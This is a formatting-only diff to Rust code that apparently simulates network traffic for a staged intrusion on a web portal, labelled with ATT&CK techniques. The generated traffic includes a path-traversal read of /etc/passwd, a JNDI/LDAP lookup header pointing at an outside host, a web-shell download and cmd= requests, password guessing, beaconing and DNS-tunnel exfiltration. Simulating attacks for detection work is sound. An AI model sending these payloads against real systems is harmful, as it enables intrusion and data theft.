@@ -41,18 +41,53 @@ const fn card(
     technique: &'static str,
     tactic: &'static str,
 ) -> StepCard {
-    StepCard { id, name, technique, tactic }
+    StepCard {
+        id,
+        name,
+        technique,
+        tactic,
+    }
 }
 
 /// Every step, in order.
 pub(crate) const STEPS: [StepCard; 7] = [
-    card(SCAN, "Scan of the server segment, then of the portal's ports", "T1046", "discovery"),
-    card(GUESSING, "Guessing the portal administrator's password", "T1110.001", "credential-access"),
-    card(EXPLOIT, "Path traversal, JNDI lookup and command injection against the portal", "T1190", "initial-access"),
-    card(DROP, "The portal fetches a web shell", "T1105", "command-and-control"),
+    card(
+        SCAN,
+        "Scan of the server segment, then of the portal's ports",
+        "T1046",
+        "discovery",
+    ),
+    card(
+        GUESSING,
+        "Guessing the portal administrator's password",
+        "T1110.001",
+        "credential-access",
+    ),
+    card(
+        EXPLOIT,
+        "Path traversal, JNDI lookup and command injection against the portal",
+        "T1190",
+        "initial-access",
+    ),
+    card(
+        DROP,
+        "The portal fetches a web shell",
+        "T1105",
+        "command-and-control",
+    ),
     card(USE, "Commands through the web shell", "T1505.003", "persistence"),
-    card(BEACON, "Beacon from the portal over HTTP and TLS", "T1071.001", "command-and-control"),
-    card(TUNNEL, "Data leave through a DNS tunnel", "T1071.004", "command-and-control"),
+    card(
+        BEACON,
+        "Beacon from the portal over HTTP and TLS",
+        "T1071.001",
+        "command-and-control",
+    ),
+    card(
+        TUNNEL,
+        "Data leave through a DNS tunnel",
+        "T1071.004",
+        "command-and-control",
+    ),
 ];
 
 /// Passwords tried before one fits.
@@ -107,7 +142,13 @@ pub(crate) fn play(stage: &mut Stage) {
 }
 
 fn to_portal(step: &'static str, port: u16) -> Call {
-    Call { client: intruder(), server: Server::Portal.station(), port, stack: Stack::Unix, step: Some(step) }
+    Call {
+        client: intruder(),
+        server: Server::Portal.station(),
+        port,
+        stack: Stack::Unix,
+        step: Some(step),
+    }
 }
 
 fn is_open(host: u8, port: u16) -> bool {
@@ -119,7 +160,8 @@ fn is_open(host: u8, port: u16) -> bool {
         (Server::Intranet, 80),
         (Server::Mail, 25),
     ];
-    open.iter().any(|(server, open_port)| *server as u8 == host && *open_port == port)
+    open.iter()
+        .any(|(server, open_port)| *server as u8 == host && *open_port == port)
 }
 
 /// First the same ports on every address, then many ports of the portal; one source port for all, as scanners do.
@@ -127,7 +169,9 @@ fn scan(stage: &mut Stage, start_us: i64, span_us: i64) {
     let mut random = stage.random(SCAN, 0);
     let sweep = (1..=SWEPT_HOSTS).flat_map(|host| SWEPT_PORTS.map(|port| (host, port)));
     let portal = Server::Portal as u8;
-    let ports = PORTAL_PORTS.filter(|port| !SWEPT_PORTS.contains(port)).map(|port| (portal, port));
+    let ports = PORTAL_PORTS
+        .filter(|port| !SWEPT_PORTS.contains(port))
+        .map(|port| (portal, port));
     let targets: Vec<(u8, u16)> = sweep.chain(ports).collect();
     let client_port = 40_000 + random.below(9000) as u16;
     let gap_us = span_us / targets.len() as i64;
@@ -138,7 +182,13 @@ fn scan(stage: &mut Stage, start_us: i64, span_us: i64) {
             server.address = std::net::Ipv4Addr::new(a, b, c, host).into();
             server.mac[5] = host;
         }
-        let call = Call { client: intruder(), server, port, stack: Stack::Bare, step: Some(SCAN) };
+        let call = Call {
+            client: intruder(),
+            server,
+            port,
+            stack: Stack::Bare,
+            step: Some(SCAN),
+        };
         let mut route = stage.route(&call, &mut random);
         route.client_port = client_port;
         let now_us = start_us + index as i64 * gap_us + random.between(0, gap_us / 2);
@@ -161,14 +211,24 @@ fn guess(stage: &mut Stage, start_us: i64, span_us: i64) {
     for attempt in 0..=GUESSES {
         let now_us = start_us + attempt as i64 * gap_us + random.between(0, gap_us / 3);
         let mut connection = stage.connect(&to_portal(GUESSING, 80), &mut random, now_us);
-        let response = if attempt < GUESSES { login_refused() } else { login_accepted(&mut random) };
+        let response = if attempt < GUESSES {
+            login_refused()
+        } else {
+            login_accepted(&mut random)
+        };
         let password = format!("matkhau{}{}", random.below(10_000), attempt);
         log_in(&mut connection, INTRUDER_AGENT, "quantri", &password, &response);
         connection.close(Side::Client);
     }
 }
 
-fn request_portal(stage: &mut Stage, step: &'static str, request: &Request<'_>, answer: &Response, start_us: i64) {
+fn request_portal(
+    stage: &mut Stage,
+    step: &'static str,
+    request: &Request<'_>,
+    answer: &Response,
+    start_us: i64,
+) {
     let mut random = stage.random(step, start_us as u64);
     let mut connection = stage.connect(&to_portal(step, 80), &mut random, start_us);
     exchange(&mut connection, request, answer);
@@ -181,10 +241,19 @@ fn exploit(stage: &mut Stage, start_us: i64, gap_us: i64) {
     let get = |target| Request::get(&host, target, INTRUDER_AGENT);
     let accounts = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
     let traversal = get("/tra-cuu?tep=../../../../../../etc/passwd");
-    request_portal(stage, EXPLOIT, &traversal, &Response::new(200, "text/plain", accounts), start_us);
+    request_portal(
+        stage,
+        EXPLOIT,
+        &traversal,
+        &Response::new(200, "text/plain", accounts),
+        start_us,
+    );
 
     let fields = ["X-Api-Version: ${jndi:ldap://203.0.113.99:1389/TaiLieu}"];
-    let lookup = Request { fields: &fields, ..get("/api/ho-so") };
+    let lookup = Request {
+        fields: &fields,
+        ..get("/api/ho-so")
+    };
     let nothing = Response::new(404, "text/html", "<h1>404</h1>\n");
     request_portal(stage, EXPLOIT, &lookup, &nothing, start_us + gap_us);
 
@@ -197,10 +266,20 @@ fn exploit(stage: &mut Stage, start_us: i64, gap_us: i64) {
 fn drop_shell(stage: &mut Stage, start_us: i64) {
     let mut random = stage.random(DROP, 0);
     let client = Server::Portal.station();
-    let call = Call { client, server: staging(), port: 80, stack: Stack::Unix, step: Some(DROP) };
+    let call = Call {
+        client,
+        server: staging(),
+        port: 80,
+        stack: Stack::Unix,
+        step: Some(DROP),
+    };
     let mut connection = stage.connect(&call, &mut random, start_us);
     let request = Request::get("198.51.100.80", "/cong-cu/ho-so.php", "Wget/1.21.3");
-    exchange(&mut connection, &request, &Response::new(200, "application/octet-stream", WEB_SHELL));
+    exchange(
+        &mut connection,
+        &request,
+        &Response::new(200, "application/octet-stream", WEB_SHELL),
+    );
     connection.close(Side::Client);
 }
 
@@ -209,13 +288,22 @@ fn use_shell(stage: &mut Stage, start_us: i64, gap_us: i64) {
     let host = Server::Portal.name();
     let said = [
         ("id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
-        ("uname+-a", "Linux motcua 6.1.0-37-amd64 #1 SMP Debian x86_64 GNU/Linux\n"),
+        (
+            "uname+-a",
+            "Linux motcua 6.1.0-37-amd64 #1 SMP Debian x86_64 GNU/Linux\n",
+        ),
         ("ls+-la+/var/www", "drwxr-xr-x 4 www-data www-data 4096 uploads\n"),
     ];
     for (index, (command, answer)) in said.into_iter().enumerate() {
         let target = format!("/uploads/ho-so.php?cmd={command}");
         let request = Request::get(&host, &target, INTRUDER_AGENT);
-        request_portal(stage, USE, &request, &Response::new(200, "text/html", answer), start_us + index as i64 * gap_us);
+        request_portal(
+            stage,
+            USE,
+            &request,
+            &Response::new(200, "text/html", answer),
+            start_us + index as i64 * gap_us,
+        );
     }
     let fields = ["Content-Type: application/x-www-form-urlencoded"];
     let request = Request {
@@ -238,8 +326,21 @@ fn portal_asks(
 ) -> i64 {
     let (step, query, kind) = question;
     let (client, resolver) = (Server::Portal.station(), Server::Resolver.station());
-    let lookup = Lookup { client, resolver, query, kind, step: Some(step) };
-    look_up(&mut stage.timeline, &mut stage.ports, random, &lookup, answer, start_us)
+    let lookup = Lookup {
+        client,
+        resolver,
+        query,
+        kind,
+        step: Some(step),
+    };
+    look_up(
+        &mut stage.timeline,
+        &mut stage.ports,
+        random,
+        &lookup,
+        answer,
+        start_us,
+    )
 }
 
 /// Reports every `period_us`, a tenth more or less; every third time over TLS too.
@@ -264,7 +365,11 @@ fn beacon(stage: &mut Stage, start_us: i64, period_us: i64) {
         let target = format!("/api/v3/dong-bo/nhip?ma={identity}&lan={turn}");
         let order = random.bytes(48);
         let response = Response::new(200, "application/octet-stream", order);
-        exchange(&mut connection, &Request::get(CONTROL_HOST, &target, IMPLANT_AGENT), &response);
+        exchange(
+            &mut connection,
+            &Request::get(CONTROL_HOST, &target, IMPLANT_AGENT),
+            &response,
+        );
         connection.close(Side::Client);
         if turn % 3 == 0 {
             over_tls(stage, &call(443), &mut random, ready_us + 90_000);
@@ -297,16 +402,27 @@ fn tunnel(stage: &mut Stage, start_us: i64, span_us: i64) {
     let session = random.hex(4);
     let gap_us = span_us / TUNNEL_QUERIES;
     for index in 0..TUNNEL_QUERIES {
-        let query = format!("{}.{}.{session}{index:04x}.{TUNNEL_ZONE}", random.hex(60), random.hex(56));
+        let query = format!(
+            "{}.{}.{session}{index:04x}.{TUNNEL_ZONE}",
+            random.hex(60),
+            random.hex(56)
+        );
         let length = random.size(30, 44) * 4;
         let text: String = (0..length).map(|_| random.pick(&ENCODED)).collect();
         let now_us = start_us + index * gap_us + random.between(0, gap_us / 2);
         let answer = Answer::Records(vec![Data::Text(text)]);
-        portal_asks(stage, &mut random, (TUNNEL, &query, RecordType::Txt), &answer, now_us);
+        portal_asks(
+            stage,
+            &mut random,
+            (TUNNEL, &query, RecordType::Txt),
+            &answer,
+            now_us,
+        );
     }
 }
 
 /// Some of base64's characters.
 const ENCODED: [&str; 24] = [
-    "A", "C", "E", "G", "K", "Q", "T", "Z", "a", "b", "d", "f", "h", "j", "m", "p", "s", "w", "0", "2", "5", "7", "9", "+",
+    "A", "C", "E", "G", "K", "Q", "T", "Z", "a", "b", "d", "f", "h", "j", "m", "p", "s", "w", "0", "2", "5",
+    "7", "9", "+",
 ];
